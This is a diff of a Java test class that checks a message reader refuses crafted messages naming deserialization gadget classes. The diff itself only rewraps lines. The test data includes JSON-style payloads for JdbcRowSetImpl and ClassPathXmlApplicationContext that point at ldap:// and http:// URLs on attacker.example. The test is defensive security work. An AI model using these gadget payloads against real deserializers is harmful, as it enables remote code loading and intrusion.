@@ -61,7 +61,8 @@ class GadgetRefusalTest {
             writer.pay(new Card("4111"));
             appendCrafted(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
                     "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
-            appendCrafted(queue, "pay", Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
+            appendCrafted(queue, "pay",
+                    Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
                     "configLocation", "http://attacker.example/beans.xml"));
             // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
             appendCrafted(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
@@ -75,12 +76,14 @@ class GadgetRefusalTest {
                     .hasMessageContaining("type com.sun.rowset.JdbcRowSetImpl is not allowed here");
             assertThatThrownBy(reader::readOne)
                     .isInstanceOf(MessageDecodingException.class)
-                    .hasMessageContaining("type org.springframework.context.support.ClassPathXmlApplicationContext is not allowed here");
+                    .hasMessageContaining("type org.springframework.context.support.ClassPathXmlApplicationContext is "
+                    + "not allowed here");
             assertThat(reader.readOne()).isTrue();
             assertThat(reader.readOne()).isTrue();
             assertThat(reader.readOne()).isFalse();
         }
-        assertThat(seen).containsExactly(new Card("4111"), Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"), new Cash(250));
+        assertThat(seen)
+                .containsExactly(new Card("4111"), Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"), new Cash(250));
     }
 
     public static final class Unlisted implements Payment0 {
@@ -107,7 +110,8 @@ class GadgetRefusalTest {
             assertThatThrownBy(() -> Messages.methodReader(queue.createTailer(), handler).readOne())
                     .isInstanceOf(MessageDecodingException.class)
                     .hasMessageContaining("type " + Unlisted.class.getName() + " is not allowed here");
-            assertThat(Messages.methodReaderBuilder(queue.createTailer()).handlers(handler).allowTypes(Unlisted.class).build()
+            assertThat(Messages.methodReaderBuilder(queue.createTailer()).handlers(handler).allowTypes(Unlisted.class)
+                    .build()
                     .readOne()).isTrue();
         }
         assertThat(seen).singleElement().isInstanceOf(Unlisted.class);
